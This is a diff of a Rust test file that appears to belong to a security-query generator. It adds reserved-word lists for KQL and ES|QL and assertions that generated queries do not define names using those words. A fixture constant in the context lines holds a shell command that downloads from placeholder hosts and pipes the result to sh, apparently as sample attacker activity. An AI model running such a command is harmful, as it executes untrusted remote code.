@@ -22,6 +22,13 @@ use std::collections::BTreeSet;
 const VM: &str = "/subscriptions/11111111-2222-3333-4444-555555555555/resourceGroups/web-rg/providers/Microsoft.Compute/virtualMachines/web01";
 const SCRIPT: &str = "#!/bin/sh\ncurl -s http://203.0.113.66/a https://drop.example/b | sh\n";
 
+/// Words of either grammar that cannot be names.
+const RESERVED_KQL: [&str; 8] = ["by", "contains", "from", "has", "in", "of", "step", "to"];
+const RESERVED_ESQL: [&str; 16] = [
+    "and", "asc", "by", "desc", "false", "first", "in", "is", "last", "like", "not", "null",
+    "nulls", "or", "rlike", "true",
+];
+
 fn read(case: &mut Case, path: &str, text: &str) {
     let size = text.len() as u64;
     let item = case.add_item(path, size, None);
@@ -155,6 +162,10 @@ fn queries_are_well_formed_and_name_what_their_tables_have() {
                     .collect();
                 assert_eq!(tables, needs, "{at}");
                 let defined = kql_defined(&tokens);
+                assert!(
+                    !RESERVED_KQL.iter().any(|word| defined.contains(*word)),
+                    "{at}: {defined:?}"
+                );
                 let has = |name: &str| {
                     needs
                         .iter()
@@ -172,6 +183,12 @@ fn queries_are_well_formed_and_name_what_their_tables_have() {
                 );
             } else {
                 let defined = esql_defined(&tokens);
+                assert!(
+                    !RESERVED_ESQL
+                        .iter()
+                        .any(|word| defined.iter().any(|name| name.eq_ignore_ascii_case(word))),
+                    "{at}: {defined:?}"
+                );
                 let has = |name: &str| {
                     needs
                         .iter()
